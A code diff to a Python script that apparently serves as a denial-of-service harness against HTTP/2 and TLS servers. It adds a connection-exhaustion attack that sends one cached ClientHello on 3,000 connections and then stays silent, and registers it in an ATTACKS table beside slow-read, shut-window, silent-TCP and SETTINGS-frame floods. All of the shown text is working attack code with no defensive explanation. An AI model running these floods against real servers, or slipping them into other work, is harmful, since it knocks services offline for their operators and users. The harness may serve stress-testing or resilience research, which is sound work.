@@ -292,6 +292,21 @@ def half_hello(a):
     return s
 
 
+def whole_hello(a):
+    """The same one each time: it costs the attacker nothing."""
+    if not hasattr(a, "hello"):
+        sent = ssl.MemoryBIO()
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.set_alpn_protocols(["h2"])
+        try:
+            context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="x").do_handshake()
+        except ssl.SSLWantReadError:
+            a.hello = sent.read()
+    s = silent(a)
+    s.sendall(a.hello)
+    return s
+
+
 def tls_alone(a):
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
@@ -409,6 +424,7 @@ ATTACKS = {
     "downloads never read, 190 streams": held(unread_download, 1),
     "windows that stay shut, 190 streams": held(shut_window, 1),
     "half a ClientHello, 3,000": crowd(half_hello, 3000),
+    "a ClientHello and no more, 3,000": crowd(whole_hello, 3000),
     "silent TCP, 3,000": crowd(silent, 3000),
     "TLS and no more, 1,000": crowd(tls_alone, 1000),
     "SETTINGS": flood(lambda p: frame(h2.SETTINGS, 0, 0) * BLOCK),
